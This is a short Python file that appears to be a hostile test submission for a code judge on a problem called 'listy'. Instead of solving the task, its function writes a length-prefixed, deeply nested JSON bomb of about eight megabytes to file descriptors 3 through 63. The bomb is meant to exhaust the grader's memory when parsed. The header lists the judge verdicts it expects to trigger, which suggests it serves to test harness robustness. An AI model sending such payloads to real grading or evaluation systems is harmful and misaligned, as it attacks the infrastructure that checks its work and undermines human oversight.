# what: sends eight megabytes that become hundreds of megabytes when read
# problem: listy
# verdict: out_of_memory|wrong|runtime_error|timeout
import os
import struct

BODY = b'{"value": ["l", [' + b'["l",[]],' * 850_000 + b"0]]}"


def evens(xs):
    for handle in range(3, 64):
        view = memoryview(struct.pack(">I", len(BODY)) + BODY)
        try:
            while view:
                view = view[os.write(handle, view) :]
        except OSError:
            pass
    return []
